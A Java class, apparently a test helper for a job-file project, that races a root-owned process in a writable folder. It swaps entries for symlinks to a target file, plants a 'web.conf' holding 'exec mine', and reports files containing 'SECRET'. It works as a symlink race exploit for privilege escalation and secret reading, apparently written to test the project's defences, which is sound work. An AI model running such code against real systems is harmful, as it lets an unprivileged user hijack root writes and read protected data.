package org.upstart4j.jobfile;

import java.io.IOException;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.List;

/**
 * The owner of a folder who exchanges everything in it, as fast as possible, while root writes
 * there. Reads what can be read, and prints where a secret was found. Ends with its input.
 */
final class Swapper {

  private final Path folder;
  private final Path prey;
  private final Path web;
  private int count;

  private Swapper(Path folder, Path prey) {
    this.folder = folder;
    this.prey = prey;
    this.web = folder.resolve("web.conf");
  }

  public static void main(String... arguments) throws IOException {
    Swapper swapper = new Swapper(Path.of(arguments[0]), Path.of(arguments[1]));
    System.out.println("ready");
    while (System.in.available() == 0) {
      swapper.round();
    }
  }

  private void round() throws IOException {
    count++;
    try (DirectoryStream<Path> names = Files.newDirectoryStream(folder)) {
      for (Path name : names) {
        if (!name.equals(web)) {
          spy(name);
          exchange(name);
        }
      }
    }
    spy(web);
    if (count % 4 == 0) {
      exchangeFile();
    }
  }

  /** A hidden folder becomes a link, or a folder of mine full of links, and goes again. */
  private void exchange(Path name) {
    Path away = folder.resolve("away" + count);
    try {
      Files.move(name, away);
      if (count % 2 == 0) {
        Files.createSymbolicLink(name, prey.getParent());
      } else {
        Files.createDirectory(name);
        for (String inside : List.of("old", "new", "lock")) {
          Files.createSymbolicLink(name.resolve(inside), prey);
        }
      }
      Thread.onSpinWait();
      Files.move(name, folder.resolve("mine" + count));
    } catch (IOException lost) {
      // root was faster
    }
    remove(folder.resolve("mine" + count));
    remove(away);
  }

  /** The file becomes a link to what is root's, then one of mine that everybody may read. */
  private void exchangeFile() {
    Path kept = folder.resolve("kept");
    try {
      Files.move(web, kept);
      Files.createSymbolicLink(web, prey);
      Files.delete(web);
      Files.writeString(web, "exec mine\n");
      Files.move(kept, web, StandardCopyOption.REPLACE_EXISTING);
    } catch (IOException lost) {
      // root was faster
    }
  }

  private static void spy(Path file) {
    try {
      if (Files.readString(file).contains("SECRET")) {
        System.out.println("read " + file);
      }
    } catch (IOException kept) {
      // as it should be
    }
  }

  private static void remove(Path path) {
    try {
      if (Files.isDirectory(path, LinkOption.NOFOLLOW_LINKS)) {
        try (DirectoryStream<Path> names = Files.newDirectoryStream(path)) {
          for (Path name : names) {
            Files.delete(name);
          }
        }
      }
      Files.deleteIfExists(path);
    } catch (IOException roots) {
      // stays
    }
  }
}
